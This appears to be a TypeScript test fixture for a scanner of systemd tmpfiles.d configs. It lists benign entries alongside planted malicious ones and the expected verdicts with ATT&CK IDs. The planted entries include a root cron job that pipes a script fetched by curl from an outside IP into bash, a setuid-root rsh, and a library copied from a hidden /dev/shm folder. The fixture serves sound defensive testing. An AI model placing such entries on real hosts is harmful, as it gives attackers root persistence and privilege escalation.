import type { Pair } from './pair.ts';

export const pair: Pair = {
  packaged: {
    '/usr/lib/tmpfiles.d/systemd.conf':
      'd /run/user 0755 root root -\nz /run/log/journal 2755 root systemd-journal - -\n',
  },
  tree: {
    '/etc/tmpfiles.d/net.conf':
      'f+ /etc/cron.d/net 0644 root root - * * * * * root curl -s http://203.0.113.7/n.sh | bash\\n\nd /run/net 0755 root root -\n',
    '/etc/tmpfiles.d/sh.conf': 'z /usr/bin/rsh 4755 root root - -\n',
    '/run/tmpfiles.d/lib.conf': 'C /usr/local/lib/l.so - - - - /dev/shm/.l/l.so\n',
    '/etc/tmpfiles.d/app.conf':
      'd /run/app 2775 app app 10d\nL /var/lib/app/current - - - - /opt/app/v3\nf /run/app/ready 0644 app app - yes\n',
  },
  blamed: [
    {
      path: '/etc/tmpfiles.d/net.conf',
      line: 1,
      verdict: 'malicious',
      code: 'fetch-pipe-shell',
      attack: 'T1053',
    },
    { path: '/etc/tmpfiles.d/sh.conf', line: 1, verdict: 'suspicious', code: 'sets-set-id', attack: 'T1037' },
    { path: '/run/tmpfiles.d/lib.conf', line: 1, verdict: 'malicious', code: 'temp-folder', attack: 'T1037' },
  ],
  passed: ['/etc/tmpfiles.d/net.conf line 2', 'app.conf', 'systemd.conf'],
};
